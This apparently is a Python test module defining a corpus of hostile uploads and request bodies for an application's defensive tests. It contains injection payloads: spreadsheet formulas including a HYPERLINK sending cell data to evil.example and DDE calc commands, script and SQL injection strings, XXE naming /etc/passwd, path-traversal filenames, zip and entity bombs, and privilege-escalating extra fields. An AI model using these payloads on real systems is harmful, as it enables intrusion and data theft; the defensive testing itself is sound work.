"""The hostile corpus: files and request bodies that every upload, import and API operation
is given (safecom/core/tests/test_hostile.py).

Each file is made by code (big and damaged ones in `generate.py`), so nothing huge is kept in
the repository. `ok_for` names the kinds of target that may take a file because, for them,
it is harmless (plain text is fine evidence; a path in a name is cut off): a target may store
those, but then what it shows must be escaped and the stored name safe. Every other target
must refuse the file with a message saying why.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cached_property
from typing import Any

from safecom.core.tests.hostile import generate as g

SCRIPT = "<script>alert('hostile')</script>"
MARKER = "alert('hostile')"  # never found unescaped in a page


IMPORT, DOCUMENTS, EVIDENCE = "import", "documents", "evidence"
ANY = frozenset({IMPORT, DOCUMENTS, EVIDENCE})
EV = frozenset({EVIDENCE})  # evidence is kept as given, never opened by the server


@dataclass(frozen=True)
class HostileFile:
    key: str
    name: str
    what: str
    make: Callable[[], bytes]
    ok_for: frozenset[str] = frozenset()

    @cached_property
    def data(self) -> bytes:
        return self.make()


def _csv(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(encoding)


_HEAD = "Staff reference,First name,Last name,Worker type,Role,Address"
_FORMULAS = "\n".join(
    [
        _HEAD,
        'F1,=HYPERLINK("http://evil.example/?x="&A1;"click"),Smith,Employee,Cook,1 Road',
        "F2,+cmd|' /C calc'!A0,Jones,Employee,Cook,2 Road",
        "F3,Ann,-2+3+cmd|' /C calc'!A0,Employee,Cook,3 Road",
        "F4,Bob,Lee,Employee,@SUM(1+1)*cmd|' /C calc'!A0,4 Road",
        'F5,Cy,Day,Employee,Cook,"\t=1+1"',
        'F6,Di,Eve,Employee,Cook,"\r=1+1"',
    ]
)
_SCRIPTS = "\n".join(
    [
        _HEAD,
        f'S1,"{SCRIPT}","<img src=x onerror=alert(1)>",Employee,"{SCRIPT}","{SCRIPT}"',
    ]
)
_SQL = "\n".join([_HEAD, "Q1,Robert'); DROP TABLE workforce_staffmember;--,Tables,Employee,x,y"])

FILES: list[HostileFile] = [
    # Empty and not text
    HostileFile("empty", "staff.csv", "no bytes at all", lambda: b""),
    HostileFile("whitespace", "staff.csv", "only spaces and line ends", _csv("  \n\n\t \r\n"), EV),
    HostileFile("binary", "staff.csv", "random bytes named .csv", lambda: g.random_bytes(4096)),
    HostileFile("nul-bytes", "staff.csv", "a CSV with NUL bytes", _csv(g.GOOD_CSV + "\x00\x00x")),
    HostileFile(
        "exe", "policy.docx", "a Windows program named .docx", lambda: b"MZ\x90\x00" + bytes(500)
    ),
    HostileFile(
        "png-as-csv",
        "staff.csv",
        "a PNG image named .csv",
        lambda: b"\x89PNG\r\n\x1a\n" + bytes(64),
        EV,
    ),
    HostileFile(
        "html-as-pdf",
        "policy.pdf",
        "HTML named .pdf",
        _csv(f"<html><body>{SCRIPT}</body></html>"),
        EV,
    ),
    # Wrong encodings
    HostileFile("utf16-bom", "staff.csv", "UTF-16 with a BOM", _csv(g.GOOD_CSV, "utf-16")),
    HostileFile("utf16-le", "staff.csv", "UTF-16 without a BOM", _csv(g.GOOD_CSV, "utf-16-le")),
    HostileFile("utf32", "staff.csv", "UTF-32", _csv(g.GOOD_CSV, "utf-32")),
    HostileFile(
        "undecodable",
        "staff.csv",
        "bytes neither UTF-8 nor Windows-1252 (0x81, 0x8D, 0x8F, 0x90, 0x9D)",
        lambda: g.GOOD_CSV.encode() + b"N2,\x81\x8d,\x8f\x90\x9d,Employee,Cook,x\n",
    ),
    HostileFile(
        "ebcdic",
        "policy.txt",
        "EBCDIC text",
        lambda: g.POLICY_TEXT.encode("cp500") + b"\x00\x00",
    ),
    # Size and shape
    HostileFile(
        "huge",
        "staff.csv",
        "21 MB, over the 20 MB limit",
        lambda: b"This line is not a heading row\n" * (21 * g.MB // 31 + 1),
    ),
    HostileFile(
        "long-field",
        "staff.csv",
        "one field of 2 MB (over the CSV reader's limit)",
        lambda: (g.GOOD_CSV + 'N2,"' + "A" * (2 * g.MB) + '",B,Employee,Cook,x\n').encode(),
        EV,
    ),
    HostileFile(
        "many-columns",
        "staff.csv",
        "20,000 columns",
        lambda: (
            _HEAD + ",x" * 20000 + "\n" + "N1,A,B,Employee,C,D" + ",1" * 20000 + "\n"
        ).encode(),
        ANY,
    ),
    HostileFile(
        "unclosed-quote",
        "staff.csv",
        "a quote never closed",
        _csv(_HEAD + '\nN1,"Amira,Hussain,Employee,Cook,x\nN2,B,C,Employee,Cook,y\n'),
        EV,
    ),
    HostileFile("heading-only", "staff.csv", "headings, no rows", _csv(_HEAD + "\n"), EV),
    HostileFile(
        "ragged",
        "staff.csv",
        "rows longer and shorter than the headings",
        _csv(_HEAD + "\nN1\nN2,A,B,Employee,Cook,x,extra,extra,extra\n"),
        EV,
    ),
    # Injection in the content
    HostileFile("formulas", "staff.csv", "spreadsheet formulas in cells", _csv(_FORMULAS), EV),
    HostileFile("script-cells", "staff.csv", "script in every text cell", _csv(_SCRIPTS), ANY),
    HostileFile("sql-cells", "staff.csv", "SQL in a name", _csv(_SQL), ANY),
    # Zip packages (xlsx, docx)
    HostileFile("zip-bomb-ratio", "staff.xlsx", "30 MB of zeros in 30 KB", g.zip_bomb_ratio),
    HostileFile("zip-bomb-declared", "staff.xlsx", "declares 4 GB unpacked", g.zip_bomb_declared),
    HostileFile("zip-many-entries", "staff.xlsx", "6,000 entries", g.zip_many_entries),
    HostileFile("zip-nested", "staff.xlsx", "zips inside zips (42.zip shape)", g.zip_nested),
    HostileFile("zip-plain", "staff.xlsx", "a plain zip, not a workbook", g.zip_plain),
    HostileFile("xlsx-truncated", "staff.xlsx", "the first half of a workbook", g.xlsx_truncated),
    HostileFile(
        "xlsx-entity-bomb", "staff.xlsx", "billion laughs in the sheet", g.xlsx_entity_bomb, EV
    ),
    HostileFile(
        "xlsx-traversal",
        "staff.xlsx",
        "entries named ../../ and /etc inside the package",
        g.xlsx_inside_traversal,
        EV,
    ),
    HostileFile(
        "xlsx-wrong-types", "staff.xlsx", "every cell the wrong type", g.xlsx_wrong_types, EV
    ),
    HostileFile(
        "docx-entity-bomb", "policy.docx", "billion laughs in the document", g.docx_entity_bomb, EV
    ),
    HostileFile(
        "docx-xxe",
        "policy.docx",
        "an external entity naming /etc/passwd",
        g.docx_external_entity,
        EV,
    ),
    HostileFile("docx-damaged", "policy.docx", "XML never closed", g.docx_damaged, EV),
    # PDFs
    HostileFile("pdf-bomb", "policy.pdf", "300 KB unpacking to 300 MB", g.pdf_bomb, EV),
    HostileFile(
        "pdf-pages-lie",
        "policy.pdf",
        "claims two thousand million pages",
        g.pdf_page_count_lie,
        ANY - {IMPORT},
    ),
    HostileFile("pdf-encrypted", "policy.pdf", "password-protected", g.pdf_encrypted, EV),
    HostileFile(
        "pdf-truncated",
        "policy.pdf",
        "a PDF header then garbage",
        lambda: b"%PDF-1.7\n" + bytes(99),
        EV,
    ),
    HostileFile("pdf-no-text", "policy.pdf", "a page with no text layer", g.pdf_no_text, EV),
    HostileFile("pdf-loops", "policy.pdf", "a page tree that loops", g.pdf_self_reference, EV),
    HostileFile(
        "pdf-javascript",
        "policy.pdf",
        "readable, with script run on opening",
        g.pdf_javascript,
        ANY - {IMPORT},
    ),
    # Names
    HostileFile(
        "name-traversal", "../../../../etc/passwd.csv", "path traversal", _csv(g.GOOD_CSV), ANY
    ),
    HostileFile(
        "name-windows",
        "..\\..\\Windows\\System32\\drivers\\etc\\hosts.csv",
        "Windows path traversal",
        _csv(g.GOOD_CSV),
        ANY,
    ),
    HostileFile(
        "name-absolute", "/var/lib/postgresql/staff.csv", "an absolute path", _csv(g.GOOD_CSV), ANY
    ),
    HostileFile("name-script", f"{SCRIPT}.csv", "script in the name", _csv(g.GOOD_CSV), ANY),
    HostileFile("name-long", "s" * 5000 + ".csv", "a 5,000-character name", _csv(g.GOOD_CSV), ANY),
    HostileFile("name-no-extension", "staff", "no extension", _csv(g.GOOD_CSV), ANY),
    HostileFile(
        "name-double-extension", "staff.csv.exe", "a program's extension", _csv(g.GOOD_CSV), ANY
    ),
    HostileFile(
        "name-control", "sta\x1bff\r\n.csv", "control characters in the name", _csv(g.GOOD_CSV), ANY
    ),
]


# Request bodies, whole: what any JSON operation is sent instead of its document.
@dataclass(frozen=True)
class HostileBody:
    key: str
    what: str
    body: bytes
    content_type: str = "application/json"


BODIES: list[HostileBody] = [
    HostileBody("empty-body", "no body", b""),
    HostileBody("not-json", "broken JSON", b'{"title": "unfinished'),
    HostileBody("json-null", "null", b"null"),
    HostileBody("json-array", "a list, not an object", b"[]"),
    HostileBody("json-string", "a string, not an object", b'"hello"'),
    HostileBody("json-number", "a number, not an object", b"42"),
    HostileBody("deep-json", "nested 100,000 deep", b"[" * 100_000 + b"]" * 100_000),
    HostileBody("deep-object", "objects nested 5,000 deep", b'{"a":' * 5000 + b"1" + b"}" * 5000),
    HostileBody("oversized", "a 6 MB body", b'{"x": "' + b"A" * (6 * g.MB) + b'"}'),
    HostileBody("invalid-utf8", "bytes that are not UTF-8", b'{"x": "\xff\xfe\xfa"}'),
    HostileBody("bom-json", "JSON after a byte-order mark", b'\xef\xbb\xbf{"x": 1}'),
    HostileBody("nan", "NaN and Infinity", b'{"x": NaN, "y": Infinity, "z": -Infinity}'),
    HostileBody(
        "form-encoded", "a form, not JSON", b"x=1&y=2", "application/x-www-form-urlencoded"
    ),
    HostileBody("xml", "XML, not JSON", b"<?xml version='1.0'?><x>1</x>", "application/xml"),
    HostileBody(
        "multipart-garbage", "a broken multipart body", b"--x\r\nnot", "multipart/form-data"
    ),
]

# Values put into each field of an operation's own (valid) body, one field at a time.
WRONG_TYPES: list[tuple[str, Any]] = [
    ("null", None),
    ("object", {"$gt": ""}),
    ("list", [1, 2]),
    ("bool", True),
    ("number", 1e308),
    ("big-int", 2**70),
    ("negative", -(2**63)),
    ("string", "not-a-number"),
]
TEXT_VALUES: list[tuple[str, str]] = [
    ("script", SCRIPT),
    ("nul", "before\x00after"),
    ("lone-surrogate", "\ud800"),
    ("huge-text", "A" * 1_000_000),
    ("rtl-override", "\u202etxt.exe"),
    ("bad-date", "2024-02-30"),
    ("year-zero", "0000-01-01"),
    ("far-future", "9999-12-31"),
    ("path", "../../../../etc/passwd"),
    ("sql", "' OR 1=1;--"),
]


def field_mutations(body: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    """(what, body) for each hostile value in each field, and an unknown extra field."""
    for name in body:
        for label, value in [*WRONG_TYPES, *TEXT_VALUES]:
            yield f"{name}={label}", {**body, name: value}
        if isinstance(body[name], list):
            yield f"{name}=10k-items", {**body, name: ["x"] * 10_000}
    yield (
        "script-everywhere",
        {
            k: (SCRIPT if isinstance(v, str) else [SCRIPT] if isinstance(v, list) else v)
            for k, v in body.items()
        },
    )
    yield "extra-field", {**body, "is_superuser": True, "__proto__": {"admin": True}}


def encode(body: Any) -> bytes:
    """JSON as a client would send it; lone surrogates kept as escapes (not encodable raw)."""
    return json.dumps(body).encode()
